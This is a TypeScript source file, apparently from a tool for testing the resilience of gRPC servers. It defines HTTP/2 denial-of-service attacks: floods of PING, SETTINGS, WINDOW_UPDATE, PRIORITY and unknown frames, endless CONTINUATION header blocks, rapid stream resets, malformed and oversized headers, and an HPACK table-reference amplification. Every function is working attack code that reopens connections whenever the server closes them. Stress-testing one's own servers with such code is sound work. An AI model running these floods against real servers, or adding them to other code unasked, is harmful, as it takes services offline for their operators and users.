import type { Attack } from "../attack.ts";
import {
  endHeaders,
  frame,
  frameType,
  headerBlock,
} from "../../http/raw-http2.ts";
import {
  callBlock,
  grpcBlock,
  openHttp2,
  streamFrames,
} from "../wire/http2.ts";
import type { Http2Connection, Http2Options } from "../wire/http2.ts";
import { atOnce, flood, Span } from "../wire/pace.ts";

const priority = 2;
const connections = 8;
const times = 1000;
const check = "/grpc.health.v1.Health/Check";

/** Writes frames without an end, on connections that are opened anew when the server closes them. */
function frameFlood(
  { name, what, ...options }: Pick<Attack, "name" | "what"> & Http2Options,
  next: (connection: Http2Connection) => Buffer,
): Attack {
  return {
    name,
    what: `${what} On ${connections} connections, which are opened anew when they are closed.`,
    run: async (target, tally) => {
      const span = new Span(target);
      await atOnce(connections, async () => {
        while (!span.over) {
          const connection = await openHttp2(target, tally, options);
          await flood(connection.socket, () => next(connection), span);
        }
      });
      return undefined;
    },
  };
}

function same(bytes: Buffer): () => Buffer {
  const many = Buffer.concat(Array(times).fill(bytes));
  return () => many;
}

/** The same frames on a stream that was opened for them. */
function onStream(
  open: (connection: Http2Connection) => number,
  bytes: (stream: number) => Buffer,
): (connection: Http2Connection) => Buffer {
  const opened = new WeakMap<Http2Connection, Buffer>();
  return (connection) => {
    let many = opened.get(connection);
    if (many === undefined) {
      many = Buffer.concat(Array(times).fill(bytes(open(connection))));
      opened.set(connection, many);
    }
    return many;
  };
}

function openCall(connection: Http2Connection): number {
  const stream = connection.next();
  connection.write(streamFrames(stream, grpcBlock(check), undefined, false));
  return stream;
}

const ping = frame(frameType.ping, 0, 0, Buffer.alloc(8));
const settings = frame(
  frameType.settings,
  0,
  0,
  Buffer.of(0, 4, 0, 0, 255, 255),
);
const number = (value: number) => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
};
const cancelled = number(8);

export const frameFloods: readonly Attack[] = [
  frameFlood({ name: "pings", what: "PING." }, same(ping)),
  frameFlood(
    {
      name: "unread-pings",
      what: "PING, whose acknowledgements are not read.",
      read: false,
    },
    same(ping),
  ),
  frameFlood({ name: "settings", what: "SETTINGS." }, same(settings)),
  frameFlood(
    {
      name: "unread-settings",
      what: "SETTINGS, whose acknowledgements are not read.",
      read: false,
    },
    same(settings),
  ),
  frameFlood(
    { name: "window-updates", what: "WINDOW_UPDATE of 1 on a stream." },
    onStream(openCall, (stream) =>
      frame(frameType.windowUpdate, 0, stream, number(1)),
    ),
  ),
  frameFlood(
    { name: "empty-data", what: "DATA of no length on a stream." },
    onStream(openCall, (stream) => frame(frameType.data, 0, stream)),
  ),
  frameFlood(
    { name: "priorities", what: "PRIORITY of streams that are not open." },
    same(frame(priority, 0, 2 ** 20 + 1, Buffer.of(0, 0, 0, 0, 16))),
  ),
  frameFlood(
    { name: "unknown-frames", what: "Frames of a type that nobody knows." },
    same(frame(200, 0, 0, Buffer.alloc(8))),
  ),
  frameFlood(
    {
      name: "continuations",
      what: "A header block that goes on and on in CONTINUATION.",
    },
    onStream(
      (connection) => {
        const stream = connection.next();
        connection.write(frame(frameType.headers, 0, stream, callBlock(check)));
        return stream;
      },
      (stream) =>
        frame(
          frameType.continuation,
          0,
          stream,
          headerBlock([["a", "b".repeat(100)]]),
        ),
    ),
  ),
  frameFlood(
    {
      name: "empty-continuations",
      what: "A header block that goes on in CONTINUATION of no length.",
    },
    onStream(
      (connection) => {
        const stream = connection.next();
        connection.write(frame(frameType.headers, 0, stream, callBlock(check)));
        return stream;
      },
      (stream) => frame(frameType.continuation, 0, stream),
    ),
  ),
  frameFlood(
    { name: "resets", what: "Calls that are reset at once." },
    (connection) =>
      Buffer.concat(
        Array.from({ length: 100 }, () => {
          const stream = connection.next();
          return Buffer.concat([
            streamFrames(stream, grpcBlock(check), undefined),
            frame(frameType.rstStream, 0, stream, cancelled),
          ]);
        }),
      ),
  ),
  frameFlood(
    {
      name: "provoked-resets",
      what: "Calls whose WINDOW_UPDATE of 0 has the server reset them.",
    },
    (connection) =>
      Buffer.concat(
        Array.from({ length: 100 }, () => {
          const stream = connection.next();
          return Buffer.concat([
            streamFrames(stream, grpcBlock(check), undefined, false),
            frame(frameType.windowUpdate, 0, stream, number(0)),
          ]);
        }),
      ),
  ),
  frameFlood(
    { name: "malformed-headers", what: "Calls whose header no call may have." },
    (connection) =>
      Buffer.concat(
        Array.from({ length: 100 }, () =>
          streamFrames(
            connection.next(),
            headerBlock([
              [":method", "GET"],
              [":nonsense", ""],
              ["Upper", "case"],
            ]),
            undefined,
          ),
        ),
      ),
  ),
  frameFlood(
    { name: "large-headers", what: "Calls with 120 fields of 128 bytes." },
    (connection) => {
      const fields = Array.from(
        { length: 115 },
        (_, index) => [`x-field-${index}`, "a".repeat(100)] as const,
      );
      const block = callBlock(check, Object.fromEntries(fields));
      return Buffer.concat(
        Array.from({ length: 20 }, () =>
          streamFrames(connection.next(), block, undefined),
        ),
      );
    },
  ),
];

const indexed = 0xbe;

export const hpackReferences: Attack = {
  name: "hpack-references",
  what: "A field of 4,000 bytes in the table of the connection, and streams of 16,000 references to it each, reset at once; 4 connections, which are opened anew.",
  run: async (target, tally) => {
    const span = new Span(target);
    const value = Buffer.alloc(4000, "a");
    const first = Buffer.concat([
      callBlock(check),
      // A literal that is added to the table, with the name "a"; the length of the value in seven bits and two bytes.
      Buffer.of(
        0x40,
        1,
        0x61,
        127,
        ((4000 - 127) % 128) + 128,
        (4000 - 127) >> 7,
      ),
      value,
    ]);
    const references = Buffer.concat([
      callBlock(check),
      Buffer.alloc(16_000, indexed),
    ]);
    const some = Buffer.concat([callBlock(check), Buffer.alloc(3, indexed)]);
    await atOnce(4, async (index) => {
      while (!span.over) {
        const connection = await openHttp2(target, tally);
        const { socket } = connection;
        connection.write(streamFrames(connection.next(), first, undefined));
        const block = index % 2 === 0 ? references : some;
        const next = () => {
          const stream = connection.next();
          return Buffer.concat([
            frame(frameType.headers, endHeaders, stream, block),
            frame(frameType.rstStream, 0, stream, cancelled),
          ]);
        };
        await flood(socket, next, span);
      }
    });
    return undefined;
  },
};
